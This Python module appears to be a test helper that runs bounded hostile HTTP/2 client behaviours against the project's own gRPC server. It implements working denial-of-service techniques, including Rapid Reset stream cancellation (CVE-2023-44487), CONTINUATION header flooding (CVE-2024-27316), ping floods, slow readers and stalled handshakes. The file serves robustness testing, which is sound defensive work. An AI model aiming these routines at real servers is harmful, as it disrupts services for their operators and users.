"""What a hostile client does to a server, each with a bound: how many, and then it ends."""

import random
import socket
import struct
from collections.abc import Callable
from contextlib import ExitStack, suppress

from searchguard.v1 import service_pb2
from tests.service import frames_h2 as h2

CHECK = service_pb2.CheckRequest(query="#plandemic").SerializeToString()
BATCH = service_pb2.BatchCheckRequest(queries=["#plandemic"] * 1000).SerializeToString()
# At close, a reset in place of a farewell.
_ABRUPT = struct.pack("ii", 1, 0)
_STREAMS = 500
_HELLO = bytes.fromhex("16030100f4010000f00303")  # as a TLS ClientHello begins


def connect_and_reset(address: str, count: int) -> None:
    """Connect and leave by a reset, with and without a word."""
    for number in range(count):
        with h2.plain(address) as opened:
            if number % 2:
                opened.sendall(h2.PREFACE + h2.settings())
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _ABRUPT)


def reset_streams(address: str, count: int) -> None:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    for begin in range(0, count, _STREAMS):
        with h2.connected(address) as opened:
            _send(
                opened,
                b"".join(
                    h2.call(2 * number + 1, h2.CHECK, CHECK) + h2.reset(2 * number + 1)
                    for number in range(min(_STREAMS, count - begin))
                ),
            )


def read_slowly(address: str, count: int) -> None:
    """Ask for long answers and take a byte of each."""
    with ExitStack() as stack:
        for _ in range(count):
            opened = stack.enter_context(h2.connected(address, window=1))
            _send(opened, b"".join(h2.call(stream, h2.BATCH_CHECK, BATCH) for stream in (1, 3)))
            opened.recv(1)


def send_metadata(address: str, count: int) -> None:
    """Send headers of a megabyte, and then more that never end (CVE-2024-27316)."""
    for _ in range(count):
        with h2.connected(address) as opened:
            block = h2.headers(h2.CHECK, ("x", "a" * 1_000_000))
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            first, *others = parts
            more = (h2.frame(h2.CONTINUATION, 0, 1, part) for part in others)
            _send(opened, h2.frame(h2.HEADERS, 0, 1, first) + b"".join(more))


def send_garbage(address: str, count: int) -> None:
    """Send what is no protocol, and frames that break theirs."""
    chance = random.Random(1)
    for number in range(count):
        with h2.plain(address) as opened:
            begin = h2.PREFACE + h2.settings() if number % 2 else b""
            _send(opened, begin + chance.randbytes(20_000))


def ping(address: str, count: int) -> None:
    """Ping without a pause."""
    with h2.connected(address) as opened:
        _send(opened, h2.frame(h2.PING, 0, 0, bytes(8)) * count)


def stall(address: str, count: int) -> None:
    """Connect, say nothing or half a word, and stay until the server has had enough."""
    with ExitStack() as stack:
        opened = [stack.enter_context(h2.plain(address)) for _ in range(count)]
        for number, one in enumerate(opened):
            _send(one, (b"", h2.PREFACE, _HELLO)[number % 3])
        for one in opened:
            h2.ended(one)


def say_nothing(address: str, count: int) -> None:
    """Begin calls and send no message, nor an end, until the connection goes."""
    with h2.connected(address) as opened:
        begun = (h2.headers(h2.CHECK) for _ in range(count))
        _send(
            opened,
            b"".join(
                h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, block)
                for number, block in enumerate(begun)
            ),
        )
        # Who comes after them is answered while they are open.
        with h2.connected(address) as other:
            _send(other, h2.call(1, h2.CHECK, CHECK))
            h2.read_until(other, h2.DATA)


# What can be done without a word of HTTP/2 in it, so to a server with TLS too.
BEFORE_TLS = ("connects with RST", "garbage", "stalled handshakes")
# Each with how much of it a short test does.
ATTACKS: dict[str, tuple[Callable[[str, int], None], int]] = {
    "connects with RST": (connect_and_reset, 1000),
    "stream resets": (reset_streams, 5000),
    "slow readers": (read_slowly, 20),
    "oversized metadata": (send_metadata, 20),
    "garbage": (send_garbage, 200),
    "pings": (ping, 10_000),
    "stalled handshakes": (stall, 150),
    "silent calls": (say_nothing, 90),
}


def _send(opened: socket.socket, data: bytes) -> None:
    """Send as much as the server takes before it ends the connection."""
    with suppress(ConnectionError, TimeoutError):
        opened.sendall(data)
